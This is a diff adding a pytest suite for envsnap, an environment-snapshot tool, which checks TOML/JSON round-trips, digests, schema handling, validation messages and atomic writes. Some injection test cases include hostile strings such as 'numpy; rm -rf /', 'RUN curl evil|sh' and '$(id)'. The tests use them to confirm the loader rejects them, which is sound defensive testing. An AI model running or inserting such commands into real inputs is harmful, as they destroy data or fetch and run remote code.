@@ -1,0 +1,232 @@
+"""The model, its dict form, validation with key paths, and the TOML writer/reader."""
+
+from __future__ import annotations
+
+import sys
+import warnings
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from envsnap import io
+from envsnap.errors import BadInputError, SnapshotFormatError, UnsupportedSchemaError
+from envsnap.snapshot import (
+    GPU,
+    CondaEnv,
+    CondaPackage,
+    CudaInfo,
+    Framework,
+    LibraryCopy,
+    Meta,
+    NvidiaInfo,
+    OSInfo,
+    Package,
+    PackageProblem,
+    ProbeStatus,
+    PythonEnv,
+    Snapshot,
+    Source,
+    from_dict,
+    to_dict,
+)
+
+if sys.version_info >= (3, 11):
+    import tomllib
+else:  # pragma: no cover
+    import tomli as tomllib
+
+
+def sample() -> Snapshot:
+    return Snapshot(
+        meta=Meta(envsnap_version="0.1.0", captured_at="2026-11-26T10:00:00Z", hostname="gpu-7",
+                  elapsed_ms={"python": 12}),
+        probes={"python": ProbeStatus(status="ok", found_via="/venv/bin/python"),
+                "nvidia": ProbeStatus(status="error", error="nvidia-smi timed out")},
+        python=PythonEnv(
+            version="3.11.7", implementation="cpython", abi_tag="cp311", prefix="/venv",
+            env_kind="venv",
+            packages=(
+                Package(name="numpy", version="2.1.0", installer="pip", requested=True,
+                        tags=("cp311-cp311-manylinux_2_17_x86_64",), native=True),
+                Package(name="torch", version="2.5.1+cu121", requires=("numpy",)),
+                Package(name="mylib", version="0.1", source=Source(
+                    kind="vcs", url="git+https://github.com/o/r.git", vcs="git", commit="abc123")),
+                Package(name="weird", version="1.0", installer='q"uote\\back\tx'),
+            ),
+            problems=(PackageProblem(kind="no-metadata", path="lib/x-1.0.dist-info"),),
+        ),
+        conda=CondaEnv(prefix="/opt/conda", packages=(
+            CondaPackage(name="python", version="3.11.7", build="h2_0", channel="conda-forge"),)),
+        os=OSInfo(system="Linux", arch="x86_64", glibc="2.39", orchestrators=("slurm",)),
+        nvidia=NvidiaInfo(driver_version="580.159.04", kernel_module_version="580.159.04",
+                          cuda_driver_version="13.0",
+                          gpus=(GPU(index=0, name="NVIDIA H100 80GB HBM3", compute_capability="9.0",
+                                    memory_bytes=85520809984),)),
+        cuda=CudaInfo(libraries=(LibraryCopy(library="cudnn", version="9.1.0", path="/x/libcudnn.so.9",
+                                             found_via="pip:nvidia-cudnn-cu12"),),
+                      declared={"CUDA_VERSION": "12.4.1"}),
+        frameworks=(Framework(name="torch", version="2.5.1+cu121", variant="cu121", cuda="12.1"),),
+        env={"CUBLAS_WORKSPACE_CONFIG": ":4096:8", "PYTHONHASHSEED": "0"},
+    )
+
+
+def test_round_trip_through_toml_text_is_lossless() -> None:
+    snap = sample()
+    text = io.dumps(snap)
+    assert io.loads(text) == snap
+    # The writer's output is real TOML: the reference parser reads the same data back.
+    assert tomllib.loads(text) == to_dict(snap)
+
+
+def test_round_trip_through_json() -> None:
+    snap = sample()
+    assert io.loads(io.dumps_json(snap)) == snap
+
+
+def test_one_line_per_package_in_stable_order() -> None:
+    text = io.dumps(sample())
+    section = text.split("[python.packages]\n", 1)[1].split("\n\n", 1)[0].splitlines()
+    assert [line.split(" = ", 1)[0] for line in section] == ["numpy", "torch", "mylib", "weird"]
+    assert section[1] == 'torch = {version = "2.5.1+cu121", requires = ["numpy"]}'
+
+
+def test_digest_ignores_capture_time_metadata_only() -> None:
+    a = sample()
+    b = replace(a, meta=replace(a.meta, captured_at="2030-01-01T00:00:00Z", hostname="other"))
+    assert a.digest == b.digest
+    c = replace(a, env={**a.env, "PYTHONHASHSEED": "1"})
+    assert c.digest != a.digest
+
+
+def test_edited_snapshot_warns() -> None:
+    text = io.dumps(sample()).replace('PYTHONHASHSEED = "0"', 'PYTHONHASHSEED = "1"')
+    with pytest.warns(io.SnapshotEditedWarning, match="edited after capture"):
+        io.loads(text)
+
+
+def test_unedited_snapshot_does_not_warn() -> None:
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        io.loads(io.dumps(sample()))
+
+
+def test_transient_fields_are_never_written() -> None:
+    snap = sample()
+    assert snap.python is not None
+    pkg = replace(snap.python.packages[0], metadata_path="lib/python3.11/site-packages/n.dist-info")
+    snap = replace(snap, python=replace(snap.python, packages=(pkg,)))
+    assert "metadata_path" not in io.dumps(snap)
+
+
+def test_unknown_schema_major_is_refused_with_a_clear_message() -> None:
+    text = io.dumps(sample()).replace("schema = 1", "schema = 2", 1)
+    with pytest.raises(UnsupportedSchemaError, match="schema 2 is not supported.*upgrade envsnap"):
+        io.loads(text)
+
+
+@pytest.mark.parametrize(
+    ("edit", "key_path"),
+    [
+        (lambda d: d["python"]["packages"]["numpy"].update(version=3), "python.packages.numpy.version"),
+        (lambda d: d["python"]["packages"]["numpy"].update(requested="yes"),
+         "python.packages.numpy.requested"),
+        (lambda d: d["nvidia"]["gpus"][0].update(index="zero"), "nvidia.gpus[0].index"),
+        (lambda d: d["python"].pop("version"), "python.version"),
+        (lambda d: d["os"].update(orchestrators="slurm"), "os.orchestrators"),
+    ],
+)
+def test_validation_errors_name_the_key_path(edit, key_path: str) -> None:  # type: ignore[no-untyped-def]
+    data = to_dict(sample())
+    edit(data)
+    with pytest.raises(SnapshotFormatError) as info:
+        from_dict(data)
+    assert info.value.key_path == key_path
+    assert key_path in str(info.value)
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ["numpy; rm -rf /", "a\nRUN curl evil|sh", "pkg$(id)", "`id`", "x'y", "x y"],
+)
+def test_hostile_package_names_are_refused_at_load(hostile: str) -> None:
+    data = to_dict(sample())
+    data["python"]["packages"][hostile] = {"version": "1.0"}
+    with pytest.raises(SnapshotFormatError, match="unsafe package name"):
+        from_dict(data)
+
+
+@pytest.mark.parametrize("hostile", ["1.0 && id", "1.0\nRUN id", "$(id)", "1.0;id"])
+def test_hostile_versions_are_refused(hostile: str) -> None:
+    data = to_dict(sample())
+    data["python"]["packages"]["numpy"]["version"] = hostile
+    with pytest.raises(SnapshotFormatError, match="unsafe version"):
+        from_dict(data)
+
+
+def test_control_characters_in_env_values_are_refused() -> None:
+    data = to_dict(sample())
+    data["env"]["PYTHONHASHSEED"] = "0\nRUN curl x | sh"
+    with pytest.raises(SnapshotFormatError, match=r"control characters at 'env.PYTHONHASHSEED'"):
+        from_dict(data)
+
+
+def test_bad_env_names_are_refused() -> None:
+    data = to_dict(sample())
+    data["env"]["A B"] = "1"
+    with pytest.raises(SnapshotFormatError, match="environment variable name"):
+        from_dict(data)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"", "empty file"),
+        (b"\xff\xfe\x00garbage", "not UTF-8"),
+        (b"schema = 1\n[python\n", "not a valid snapshot file"),
+        (b"[meta]\nhostname = 'x'\n", "not an envsnap snapshot"),
+        (b"schema = 'one'\n", "expected an integer at 'schema'"),
+    ],
+)
+def test_load_errors_are_one_line_and_name_the_file(tmp_path: Path, content: bytes, message: str) -> None:
+    f = tmp_path / "bad.toml"
+    f.write_bytes(content)
+    with pytest.raises(BadInputError) as info:
+        io.load(f)
+    text = str(info.value)
+    assert message in text
+    assert str(f) in text
+    assert "\n" not in text
+
+
+def test_truncated_snapshot_is_refused(tmp_path: Path) -> None:
+    text = io.dumps(sample())
+    f = tmp_path / "cut.toml"
+    f.write_text(text[: text.index("[python.packages]") + 30])
+    with pytest.raises(BadInputError):
+        io.load(f)
+
+
+def test_missing_file_and_directory(tmp_path: Path) -> None:
+    with pytest.raises(BadInputError, match="no such file"):
+        io.load(tmp_path / "nope.toml")
+    with pytest.raises(BadInputError, match="is a directory"):
+        io.load(tmp_path)
+
+
+def test_atomic_write_keeps_the_old_file_when_writing_fails(tmp_path: Path) -> None:
+    target = tmp_path / "snap.toml"
+    target.write_text("old content\n")
+    with pytest.raises(RuntimeError), io.atomic_writer(target) as fh:
+        fh.write("half of a new")
+        raise RuntimeError("crash mid-write")
+    assert target.read_text() == "old content\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["snap.toml"]  # no temp file left behind
+
+
+def test_atomic_write_survives_keyboard_interrupt(tmp_path: Path) -> None:
+    target = tmp_path / "snap.toml"
+    with pytest.raises(KeyboardInterrupt), io.atomic_writer(target) as fh:
+        fh.write("partial")
+        raise KeyboardInterrupt
+    assert list(tmp_path.iterdir()) == []
